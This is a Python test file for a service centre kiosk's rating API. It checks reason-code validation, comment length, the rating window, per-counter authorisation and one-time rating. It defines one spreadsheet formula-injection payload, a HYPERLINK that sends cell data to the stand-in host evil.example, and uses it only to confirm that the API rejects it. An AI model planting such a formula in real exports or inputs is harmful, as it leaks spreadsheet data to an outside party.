"""Ratings need no login, so what is accepted is narrow: only from where the
citizen is (the ticket's token, or the screen at the counter that served it),
only the reason codes the counter screen offers, a short comment, once, and
only for a while after the ticket was finished (the centre's rating window, set
in /admin/centre)."""

from __future__ import annotations

import re
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path

import requests

from kiosk.reporting.labels import REASON_LABELS
from kiosk.usecases import rating
from tests.support.clients import Desk, issue

SCREEN = Path(__file__).resolve().parents[2] / "display" / "templates" / "counter_screen.html"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def finished_ticket(hub) -> dict:
    ticket = issue(hub)
    admin = hub.session()
    assert admin.post(f"{hub.url}/api/v1/counters/1/next", timeout=10).status_code == 200
    assert admin.post(f"{hub.url}/api/v1/counters/1/finish", timeout=10).status_code == 200
    return ticket


def rate(hub, ticket: dict, body: dict, lang: str = "en") -> requests.Response:
    """As the citizen's phone: the ticket's own token is the proof."""
    return requests.post(
        f"{hub.url}/api/v1/tickets/{ticket['id']}/rating",
        json={"token": ticket["token"], **body},
        params={"lang": lang},
        timeout=10,
    )


def finished_minutes_ago(hub, ticket_id: int, minutes: int) -> None:
    at = datetime.now(UTC) - timedelta(minutes=minutes)
    db_path = hub.database_url.removeprefix("sqlite:///")
    with sqlite3.connect(db_path) as db:  # stored as naive UTC text on SQLite
        db.execute(
            "UPDATE tickets SET finished_at = ? WHERE id = ?",
            (at.replace(tzinfo=None).isoformat(sep=" "), ticket_id),
        )


def test_the_reason_codes_are_the_ones_the_counter_screen_offers():
    offered = re.findall(r'<input type="checkbox" value="([a-z_]+)"', SCREEN.read_text("utf-8"))
    assert tuple(offered) == rating.REASONS
    assert tuple(REASON_LABELS) == rating.REASONS  # each has words in the reports


def test_only_known_reasons_and_a_short_comment_are_accepted(hub):
    ticket = finished_ticket(hub)
    for reasons in ([FORMULA], ["waiting_time", "anything else"], "waiting_time", [3]):
        refused = rate(hub, ticket, {"score": 1, "reasons": reasons})
        assert refused.status_code == 400, reasons
        assert refused.json()["error"] == "invalid_reason"
        assert "offered on the rating screen" in refused.json()["message"]
        assert "evil" not in refused.json()["message"]
    long = rate(hub, ticket, {"score": 2, "comment": "x" * (rating.MAX_COMMENT + 1)})
    assert long.status_code == 400 and long.json()["error"] == "comment_too_long"
    assert str(rating.MAX_COMMENT) in long.json()["message"]
    # What the counter screen sends, and a comment from the citizen's phone.
    body = {"score": 2, "reasons": ["waiting_time", "attitude", "waiting_time"], "comment": "Lâu"}
    rated = rate(hub, ticket, body)
    assert rated.status_code == 201, rated.text
    assert rated.json()["reasons"] == ["waiting_time", "attitude"]  # each once


def test_a_rating_comes_within_the_window_after_service(hub):
    assert rating.DEFAULT_WINDOW_MIN == 30
    late = finished_ticket(hub)
    finished_minutes_ago(hub, late["id"], 31)
    refused = rate(hub, late, {"score": 5})
    assert refused.status_code == 409 and refused.json()["error"] == "rating_closed"
    assert "30 minutes" in refused.json()["message"]

    on_time = finished_ticket(hub)
    finished_minutes_ago(hub, on_time["id"], 29)
    assert rate(hub, on_time, {"score": 4}).status_code == 201

    # The centre may give citizens longer: the late ticket can be rated now.
    desk = Desk(hub)
    form = {"name": "UBND xã Thử Nghiệm", "timezone": "Asia/Ho_Chi_Minh", "hours_text": ""}
    assert 'value="30"' in desk.get("/admin/centre").text
    bad = desk.post("/admin/centre", {**form, "rating_window_min": "0"})
    assert bad.status_code == 400
    saved = desk.post("/admin/centre", {**form, "rating_window_min": "60"})
    assert saved.status_code == 200 and 'value="60"' in saved.text
    assert rate(hub, late, {"score": 5}).status_code == 201
    # A form without the field (an older page, a script) leaves the window as it is.
    assert desk.post("/admin/centre", form).status_code == 200
    assert 'value="60"' in desk.get("/admin/centre").text


def test_a_rating_comes_from_the_phone_or_the_screen_at_that_counter(hub):
    ticket = finished_ticket(hub)  # served at counter 1
    url = f"{hub.url}/api/v1/tickets/{ticket['id']}/rating"
    anonymous = requests.post(url, json={"score": 1}, params={"lang": "en"}, timeout=10)
    assert anonymous.status_code == 403 and anonymous.json()["error"] == "rating_not_allowed"
    assert "counter that served this ticket" in anonymous.json()["message"]
    vietnamese = requests.post(url, json={"score": 1, "key": "guessed"}, timeout=10)
    assert vietnamese.status_code == 403 and "quầy đã phục vụ" in vietnamese.json()["message"]

    admin = hub.session()
    paired = admin.post(
        f"{hub.url}/api/v1/devices/tokens", json={"kind": "counter_screen", "name": "2"}
    ).json()
    elsewhere = requests.post(
        url, json={"score": 1}, headers={"X-Device-Token": paired["token"]}, timeout=10
    )
    assert elsewhere.status_code == 403  # the screen of counter 2 did not serve it

    phone = requests.post(
        f"{hub.url}/api/v1/tickets/by-token/{ticket['token']}/rating", json={"score": 5}, timeout=10
    )
    assert phone.status_code == 201 and phone.json()["score"] == 5
    again = rate(hub, ticket, {"score": 1})
    assert again.status_code == 409 and again.json()["error"] == "already_rated"

    served = finished_ticket(hub)
    here = admin.post(
        f"{hub.url}/api/v1/devices/tokens", json={"kind": "counter_screen", "name": "1"}
    ).json()
    screen = requests.post(
        f"{hub.url}/api/v1/tickets/{served['id']}/rating",
        json={"score": 4},
        headers={"X-Device-Token": here["token"]},
        timeout=10,
    )
    assert screen.status_code == 201
